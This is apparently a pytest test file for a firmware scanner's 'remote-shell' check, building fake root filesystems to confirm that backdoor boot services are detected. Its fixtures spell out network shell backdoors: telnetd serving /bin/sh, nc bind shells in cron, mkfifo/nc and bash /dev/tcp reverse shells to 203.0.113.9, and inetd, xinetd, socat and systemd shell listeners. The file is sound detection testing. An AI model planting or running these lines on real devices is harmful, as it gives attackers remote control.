"""remote-shell: boot services that hand out a shell over the network, on real tmp root filesystems."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from assay.checks.base import CheckContext
from assay.checks.remote_shell.check import CHECK
from assay.index import build_index
from assay.model import Finding, Severity
from assay.unpack import index_directory

ELF = Path("/bin/true").read_bytes()  # any real ELF stands in for busybox and daemons
APPLETS = ("sh", "ash", "telnetd", "nc", "crond", "inetd", "tcpsvd", "mkfifo", "cat", "socat")
RCS = """#!/bin/sh
PATH=/sbin:/bin:/usr/sbin:/usr/bin
for s in /etc/init.d/S[0-9][0-9]*; do
    [ -x "$s" ] && "$s" start
done
"""
INITTAB = "::sysinit:/etc/init.d/rcS\nttyS0::askfirst:-/bin/ash\n"


def scan(
    root: Path,
    files: Mapping[str, str | bytes],
    *,
    symlinks: Mapping[str, str] | None = None,
    modes: Mapping[str, int] | None = None,
    base: bool = True,
) -> list[Finding]:
    tree: dict[str, str | bytes] = {"/bin/busybox": ELF} if base else {}
    if base:
        tree["/etc/inittab"] = INITTAB
        tree["/etc/init.d/rcS"] = RCS
    tree.update(files)
    for path, content in tree.items():
        host = root / path.lstrip("/")
        host.parent.mkdir(parents=True, exist_ok=True)
        host.write_bytes(content.encode() if isinstance(content, str) else content)
        host.chmod(0o755 if path.startswith(("/etc/init.d/", "/bin/", "/usr/", "/sbin/")) else 0o644)
    links = dict(symlinks or {})
    if base:
        for applet in APPLETS:
            where = "/bin" if applet in ("sh", "ash", "cat", "mkfifo") else "/usr/sbin"
            links.setdefault(f"{where}/{applet}", "/bin/busybox")
    for path, target in links.items():
        host = root / path.lstrip("/")
        host.parent.mkdir(parents=True, exist_ok=True)
        host.symlink_to(target)
    for path, mode in (modes or {}).items():
        (root / path.lstrip("/")).chmod(mode)
    index = build_index([index_directory(root, "fs0")])
    return list(CHECK.run(CheckContext(index=index)))


def initd(body: str, name: str = "S50svc") -> dict[str, str]:
    script = f'#!/bin/sh\ncase "$1" in\nstart)\n{body}\n    ;;\nstop)\n    killall x\n    ;;\nesac\n'
    return {f"/etc/init.d/{name}": script}


def one(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, [f.to_dict() for f in findings]
    return findings[0]


def test_telnetd_with_shell_in_rcs_is_critical_with_line_evidence(tmp_path: Path) -> None:
    f = one(scan(tmp_path, {"/etc/init.d/rcS": RCS + "telnetd -l /bin/sh &\nexit 0\n"}))
    assert (f.category, f.path, f.severity) == ("remote-shell", "/etc/init.d/rcS", Severity.CRITICAL)
    ev = f.evidence[0]
    assert ev.path == "/etc/init.d/rcS" and ev.line == 6
    data = (tmp_path / "etc/init.d/rcS").read_bytes()
    assert ev.offset is not None and ev.length is not None
    assert data[ev.offset : ev.offset + ev.length] == b"telnetd -l /bin/sh"
    assert ev.excerpt == "telnetd -l /bin/sh"
    # The applet resolves through its symlink to the multi-call binary that really runs.
    assert any(e.path == "/bin/busybox" for e in f.evidence[1:])


def test_inittab_network_telnetd_is_critical_but_serial_console_shell_is_not(tmp_path: Path) -> None:
    inittab = (
        "::sysinit:/etc/init.d/rcS\n"
        "ttyS0::respawn:/bin/sh\n"
        "::askfirst:-/bin/ash\n"
        "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n"
    )
    f = one(scan(tmp_path, {"/etc/inittab": inittab}))
    assert f.path == "/etc/inittab" and f.severity == Severity.CRITICAL
    assert f.evidence[0].line == 4 and f.evidence[0].details["action"] == "respawn"


def test_serial_console_only_dropbear_and_commented_telnetd_are_clean(tmp_path: Path) -> None:
    files = {
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\nttyS0::respawn:/bin/sh\n::askfirst:-/bin/ash\n",
        **initd("    dropbear -R -p 22", "S50dropbear"),
        **initd("    # telnetd -l /bin/sh\n    #nc -l -p 23 -e /bin/sh", "S60old"),
        "/usr/sbin/dropbear": ELF,
    }
    assert scan(tmp_path, files) == []


def test_variables_and_called_scripts_are_resolved(tmp_path: Path) -> None:
    body = '    DAEMON=/usr/sbin/telnetd\n    ARGS="-p 2323 -l /bin/sh"\n    $DAEMON $ARGS'
    f = one(scan(tmp_path, initd(body, "S45debug")))
    assert f.path == "/etc/init.d/S45debug" and f.severity == Severity.CRITICAL
    assert f.evidence[0].details["argv"] == ["/usr/sbin/telnetd", "-p", "2323", "-l", "/bin/sh"]
    assert f.evidence[0].details["started_via"] == ["/etc/inittab", "/etc/init.d/rcS"]


def test_start_stop_daemon_and_line_continuation(tmp_path: Path) -> None:
    body = "    start-stop-daemon -S -b -x /usr/sbin/utelnetd \\\n        -- -p 23 -l /bin/ash -d"
    f = one(scan(tmp_path, {**initd(body, "S50utelnetd"), "/usr/sbin/utelnetd": ELF}))
    assert f.path == "/etc/init.d/S50utelnetd" and f.severity == Severity.CRITICAL
    assert "utelnetd" in f.title


def test_plain_telnetd_with_login_is_high(tmp_path: Path) -> None:
    f = one(scan(tmp_path, initd("    telnetd -p 23", "S50telnet")))
    assert f.severity == Severity.HIGH and f.path == "/etc/init.d/S50telnet"


def test_telnetd_bound_to_loopback_is_not_remote(tmp_path: Path) -> None:
    assert scan(tmp_path, initd("    telnetd -b 127.0.0.1:23 -l /bin/sh", "S50telnet")) == []


def test_stop_branch_and_non_executable_s_script_do_not_run_at_boot(tmp_path: Path) -> None:
    stop_only = '#!/bin/sh\ncase "$1" in\nstart)\n  true\n  ;;\nstop)\n  telnetd -l /bin/sh\n  ;;\nesac\n'
    files = {"/etc/init.d/S40a": stop_only, **initd("    telnetd -l /bin/sh", "S41b")}
    assert scan(tmp_path, files, modes={"/etc/init.d/S41b": 0o644}) == []


def test_cron_bind_shell_and_reverse_shells(tmp_path: Path) -> None:
    files = {
        "/etc/crontabs/root": (
            "# m h dom mon dow command\n*/5 * * * * pidof nc >/dev/null || nc -ll -p 5555 -e /bin/sh\n"
        ),
        **initd(
            "    rm -f /tmp/f; mkfifo /tmp/f\n"
            "    cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f &\n"
            "    bash -i >& /dev/tcp/203.0.113.9/4445 0>&1 &",
            "S99rev",
        ),
        "/bin/bash": ELF,
    }
    found = {(f.path, f.evidence[0].line, f.severity) for f in scan(tmp_path, files)}
    assert ("/etc/crontabs/root", 2, Severity.CRITICAL) in found
    assert ("/etc/init.d/S99rev", 5, Severity.CRITICAL) in found
    assert ("/etc/init.d/S99rev", 6, Severity.CRITICAL) in found
    assert len(found) == 3


def test_shell_on_inetd_xinetd_tcpsvd_socat(tmp_path: Path) -> None:
    files = {
        "/etc/inetd.conf": "# shell\n2323 stream tcp nowait root /bin/sh sh -i\n",
        "/etc/xinetd.d/rsh": "service backdoor\n{\n    port = 31337\n    server = /bin/sh\n    disable = no\n}\n",
        "/etc/xinetd.d/off": "service off\n{\n    server = /bin/sh\n    disable = yes\n}\n",
        **initd(
            "    tcpsvd -vE 0.0.0.0 2324 /bin/sh -i &\n    socat tcp-listen:4444,fork exec:/bin/sh &", "S70x"
        ),
        "/usr/sbin/xinetd": ELF,
    }
    found = {(f.path, f.evidence[0].line) for f in scan(tmp_path, files)}
    assert found == {
        ("/etc/inetd.conf", 2),
        ("/etc/xinetd.d/rsh", 1),
        ("/etc/init.d/S70x", 4),
        ("/etc/init.d/S70x", 5),
    }


def test_openwrt_procd_service_enabled_by_rc_d_link(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh /etc/rc.common\nSTART=50\nUSE_PROCD=1\nPROG=/usr/sbin/telnetd\n"
        "start_service() {\n    procd_open_instance\n"
        '    procd_set_param command "$PROG" -F -l /bin/login.sh\n'
        "    procd_close_instance\n}\n"
    )
    files = {"/etc/init.d/telnet": script, "/etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n"}
    f = one(scan(tmp_path, files, symlinks={"/etc/rc.d/S50telnet": "../init.d/telnet"}))
    assert f.path == "/etc/init.d/telnet" and f.severity == Severity.HIGH
    assert f.evidence[0].details["argv"] == ["/usr/sbin/telnetd", "-F", "-l", "/bin/login.sh"]


def test_unreferenced_init_script_is_not_a_boot_service(tmp_path: Path) -> None:
    script = "#!/bin/sh\ntelnetd -l /bin/sh\n"
    assert scan(tmp_path / "a", {"/etc/init.d/debug_telnet": script}) == []
    # The same script, once an rc.d link enables it, is a finding.
    f = one(
        scan(
            tmp_path / "b",
            {"/etc/init.d/debug_telnet": script},
            symlinks={"/etc/rc.d/S99dbg": "../init.d/debug_telnet"},
        )
    )
    assert f.path == "/etc/init.d/debug_telnet"


def test_systemd_socket_with_shell_service(tmp_path: Path) -> None:
    files = {
        "/lib/systemd/system/dbg.socket": "[Socket]\nListenStream=2525\nAccept=yes\n[Install]\nWantedBy=sockets.target\n",
        "/lib/systemd/system/dbg@.service": "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
        "/lib/systemd/system/ok.service": "[Service]\nExecStart=/usr/sbin/dropbear -F\n",
    }
    links = {"/etc/systemd/system/sockets.target.wants/dbg.socket": "/lib/systemd/system/dbg.socket"}
    f = one(scan(tmp_path, files, symlinks=links))
    assert f.path == "/lib/systemd/system/dbg@.service" and f.severity == Severity.CRITICAL


@pytest.mark.parametrize("rcs_line", ["busybox telnetd -l /bin/sh", "/bin/busybox nc -l -p 23 -e /bin/sh"])
def test_busybox_applet_invoked_through_busybox(tmp_path: Path, rcs_line: str) -> None:
    f = one(scan(tmp_path, {"/etc/init.d/rcS": RCS + rcs_line + " &\n"}))
    assert f.severity == Severity.CRITICAL and f.path == "/etc/init.d/rcS"
